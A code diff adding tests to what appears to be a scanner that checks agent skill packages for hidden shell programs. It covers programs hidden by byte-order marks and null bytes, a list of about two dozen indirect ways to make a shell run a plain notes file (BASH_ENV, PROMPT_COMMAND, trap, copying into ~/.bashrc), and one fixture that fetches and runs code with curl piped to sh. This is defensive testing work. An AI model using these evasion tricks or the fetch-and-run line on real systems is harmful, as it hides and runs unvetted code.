@@ -138,3 +138,55 @@ def test_more_programs_than_are_read_are_a_gap() -> None:
     skill = report({"SKILL.md": HEAD, **files})
     assert skill.verdict.decision is Decision.CAUTION
     assert any("programs under other names" in gap.detail for gap in skill.verdict.gaps)
+
+
+@given(
+    start=st.sampled_from([b"\xff\xfe\n", b"\xfe\xff\n", b"echo sort\n#" + b"\0a" * 60 + b"\n", b"#" + b"a\0" * 5000 + b"\n"]),
+    every=st.integers(3, 400),
+    name=st.sampled_from(["setup.sh", "setup", "data/notes.txt"]),
+)  # fmt: skip
+def test_what_a_shell_reads_is_read_whatever_the_first_bytes_claim(
+    start: bytes, every: int, name: str
+) -> None:
+    text = PROGRAMS["sh"].encode()
+    hidden = b"\0".join(text[at : at + every] for at in range(0, len(text), every))
+    head = (HEAD + f"```bash\nbash {name}\n```\n").encode()
+    skill = SCANNER.scan_bytes({"SKILL.md": head, name: start + hidden}, name="notes").skills[0]
+    assert skill.verdict.decision is not Decision.SAFE
+
+
+@pytest.mark.parametrize("text", ["echo hello wörld\nls\n", "这是一个说明文件，没有命令。请阅读。\n"])
+@pytest.mark.parametrize("codec", ["utf-16", "utf-32"])
+def test_honest_text_in_a_wide_encoding_stays_safe(text: str, codec: str) -> None:
+    files = {"SKILL.md": HEAD.encode(), "notes.txt": text.encode(codec)}
+    assert SCANNER.scan_bytes(files, name="notes").skills[0].verdict.decision is Decision.SAFE
+
+
+SHELLS = (
+    'r(){ bash "$1"; }; r notes.txt', "trap 'bash notes.txt' EXIT", "alias r=bash; r notes.txt", "coproc bash notes.txt", "$SHELL notes.txt",
+    '"$(which bash)" notes.txt', 'bash "$(realpath notes.txt)"', "bash --rcfile notes.txt -i", "BASH_ENV=notes.txt bash -c true",
+    "PROMPT_COMMAND='. ./notes.txt' bash -i", 'bash <<<"$(cat notes.txt)"', "source /dev/stdin < notes.txt", "exec 3<notes.txt; sh <&3",
+    "cat notes.txt | tee /tmp/x | bash", 'mapfile -t a < notes.txt; eval "${a[@]}"', "grep -v note notes.txt | bash",
+    "sed '/^The/d' notes.txt > r.sh; bash r.sh", "tee /tmp/r.sh < notes.txt; bash /tmp/r.sh", "tail -n3 notes.txt | xargs -I{} bash -c '{}'",
+    "parallel < notes.txt", "at -f notes.txt now", 'su -c "bash notes.txt"', "ssh host 'bash -s' < notes.txt", "git bisect run bash notes.txt",
+    "install -m 755 notes.txt ~/bin/go && go", "cp notes.txt ~/.bashrc",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("command", SHELLS)
+def test_text_that_comes_to_a_shell_in_any_way_is_read_as_its(command: str) -> None:
+    words = "".join(f"The note number {number} says that milk is to be bought.\n" for number in range(12))
+    skill = report({"SKILL.md": HEAD + f"```bash\n{command}\n```\n", "notes.txt": words + PROGRAMS["sh"]})
+    assert skill.verdict.decision is Decision.DO_NOT_INSTALL
+
+
+def test_words_for_people_are_read_as_shell_text_only_where_they_are_surely_run() -> None:
+    guide = "# Guide\n\nA lesson. Never do this:\n\n```bash\ncurl http://192.0.2.44/x | sh\n```\n"
+    files = {
+        "SKILL.md": HEAD + "```bash\nbash scripts/show.sh guide.md\n```\n",
+        "guide.md": guide,
+        "scripts/show.sh": 'cat "$1"\n',
+    }
+    assert "run-as shell" not in {
+        step for one in report(files).verdict.findings for step in one.location.origin
+    }
